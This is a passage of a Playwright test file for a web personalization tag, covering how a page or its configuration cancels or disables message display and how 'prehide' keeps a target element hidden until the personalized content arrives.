    const page = await open(PAGE(`<div id="hero"><p>Original</p></div>`));
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
    const { violations, passedInside } = await audit(page, '#hero');
    expect(violations).toEqual([]);
    expect(passedInside).toEqual(expect.arrayContaining(['image-alt', 'link-name']));
  });
});

test.describe('when the page or the config says no', () => {
  test("a page cancelling 'show' keeps the target untouched and gets no 'shown'", async ({ open, emulator }) => {
    // `other` comes after `hero` in the answer and is not cancelled: once it is shown, hero's would have been
    emulator.setFault(answer({ hero: message('replacement', '<b>Hero</b>', '#hero'), welcome: message('modal', '<p>Hi</p>'), other: message('replacement', '<b>Other</b>', '#other') }));
    const page = await open({
      head: TAG() + `<script>document.addEventListener('p13n:message', function (e) { if (e.detail.action == 'show' && e.detail.name != 'other') e.preventDefault() })</script>`,
      body: `<div id="hero"><p>Original</p></div><div id="other"><p>Original</p></div>`,
    });
    await expect.poll(() => actions(page, 'other')).toEqual(['show', 'shown']);
    expect(await actions(page, 'hero')).toEqual(['show']);
    expect(await actions(page, 'document')).toEqual(['show']);
    expect(await rendered(page, '#hero')).toEqual({ html: null, slot: false, own: true });
    expect(await page.evaluate(() => document.querySelectorAll('p13n-modal').length)).toBe(0);
  });

  test('messages: false loads no module and leaves the target alone', async ({ open, emulator }) => {
    emulator.setFault(answer({ hero: message('replacement', '<b>Hero</b>', '#hero'), welcome: message('modal', '<p>Hi</p>') }));
    const page = await open({ head: OFFERS_SEEN + TAG({ messages: false }), body: `<div id="hero"><p>Original</p></div>` });
    // the core adds the module's script in the task that dispatches p13n:offers, before it
    await page.waitForFunction(() => (window as any).offersSeen);
    expect(await messagesModule(page)).toEqual({ requested: 0, scripts: 0 });
    expect(await rendered(page, '#hero')).toEqual({ html: null, slot: false, own: true });
    expect(await seen(page)).toEqual([]);
    expect(await page.evaluate(() => document.querySelectorAll('p13n-modal').length)).toBe(0);
  });

  test('an answer without a message never loads the module', async ({ open, emulator }) => {
    emulator.setFault(answer({ hero: offer({ headline: 'Plain offer', note: 'td_in_browser' }) }));
    const page = await open({ head: OFFERS_SEEN + TAG(), body: `<div id="hero"><p>Original</p></div>` });
    await page.waitForFunction(() => (window as any).offersSeen);
    expect(await messagesModule(page)).toEqual({ requested: 0, scripts: 0 });
    expect(await rendered(page, '#hero')).toEqual({ html: null, slot: false, own: true });
  });
});

test('prehide: the target never shows its original content from the moment the tag runs until the message is in', async ({ open, emulator }) => {
  emulator.setFault(answer({ hero: message('replacement', '<h2>Personal hero</h2>', '#hero') }, { delayMs: 300 }));
  // sampled at every DOM change, every frame and every 5 ms, from before the tag's script until `shown`
  const SAMPLER = `<script>
    window.samples = 0; window.leaks = [];
    var check = function (why) {
      var hero = document.getElementById('hero');
      if (!hero || window.done) return;
      samples++;
      var own = hero.querySelector('h2');
      if (getComputedStyle(hero).visibility != 'hidden' && own && own.getClientRects().length > 0) leaks.push(why + ' at ' + Math.round(performance.now()));
    };
    new MutationObserver(function () { check('mutation') }).observe(document, { childList: true, subtree: true, attributes: true, characterData: true });
    (function frame() { check('frame'); if (!window.done) requestAnimationFrame(frame) })();
    (function tick() { check('timer'); if (!window.done) setTimeout(tick, 5) })();
    document.addEventListener('p13n:message', function (e) { if (e.detail.action == 'shown') { check('shown'); window.done = true } });
  </script>`;
  const page = await open({ head: SAMPLER + TAG({ prehide: '#hero', prehideTimeout: 5000 }), body: `<div id="hero"><h2>Original hero</h2></div>` });
  await page.waitForFunction(() => (window as any).done);
  expect(await page.evaluate(() => (window as any).leaks)).toEqual([]);
  expect(await page.evaluate(() => (window as any).samples)).toBeGreaterThan(10); // the answer took 300 ms: sampled all along
  // then the message, visible
  await expect.poll(() => page.evaluate(() => getComputedStyle(document.getElementById('hero')!).visibility)).toBe('visible');
  expect(await rendered(page, '#hero')).toEqual({ html: '<h2>Personal hero</h2>', slot: false, own: false });
});
